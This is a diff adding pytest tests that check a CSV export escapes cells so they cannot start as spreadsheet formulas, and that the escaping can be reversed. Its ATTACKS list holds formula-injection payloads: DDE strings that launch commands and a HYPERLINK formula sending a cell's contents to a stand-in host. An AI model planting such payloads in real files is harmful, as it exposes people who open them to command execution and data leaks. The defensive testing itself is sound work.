@@ -4,6 +4,7 @@ import csv
 
 import pandas as pd
 import pyarrow as pa
+import pyarrow.csv
 import pytest
 
 from analysis import schemas
@@ -62,3 +63,51 @@ def test_line_breaks_and_quotation_marks_stay_inside_their_cell(tmp_path):
     tables.write(study, tmp_path)
     back = pd.read_csv(tmp_path / "articles.csv")
     assert back["text"].tolist() == ['He said "no",\n\nand left'] * 2
+
+
+# As they are found in reports of such attacks, and in the lists that testers use.
+ATTACKS = (
+    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A1", "-2+3+cmd|'/C'!A",
+    '=HYPERLINK("http://x.example/?"&A1,"open")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(1)", ' =1+1', '"=1+1', "'=1+1", "''+1", "' =1",
+    "one;=1+1", "one\n=cmd|' /C calc'!A0", 'one;"=1+1"', "one; '-1", "one\t@SUM(1)",
+)  # fmt: skip
+PLAIN = (
+    "",
+    "'tis so",
+    "a = b",
+    "x;y",
+    "- no: a dash is quoted, too",
+    "He said 'no'",
+    "one\n\ntwo",
+    "'",
+    "''",
+)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_no_cell_begins_as_a_formula_wherever_a_spreadsheet_lets_cells_begin(text, tmp_path):
+    file = tmp_path / "a.csv"
+    pyarrow.csv.write_csv(tables.harmless(pa.table({"n": ["x"], "text": [text]})), file)
+    raw = file.read_text(encoding="utf-8")
+    for separator in ",;\t":
+        for row in csv.reader(raw.splitlines(keepends=True), delimiter=separator):
+            assert not [c for c in row if c.lstrip(' "').startswith(tuple("=+-@＝＠\t\r\n"))]
+    for line in raw.splitlines():
+        for cell in line.replace("\t", ";").split(";"):
+            assert not cell.lstrip(' "').startswith(tuple("=+-@＝＠"))
+
+
+@pytest.mark.parametrize("text", (*ATTACKS, *PLAIN, "é;=1", "''' -'=;'=", ";;=", "\n\n=\n'\n+"))
+def test_a_program_has_each_cell_back_as_it_was(text):
+    made_harmless = tables.harmless(pa.table({"text": [text]})).to_pydict()["text"][0]
+    assert tables.plain(made_harmless) == text
+
+
+def test_names_of_columns_are_harmless_too():
+    assert tables.harmless(pa.table({"=1+1": ["one"]})).column_names == ["'=1+1"]
+    for table in schemas.TABLES.values():
+        names = [column.name for column in table.columns]
+        assert all(name.isidentifier() for name in names)
+        # no column holds lists, which a CSV file could not
+        assert not [c for c in table.columns if c.dtype == "object"]
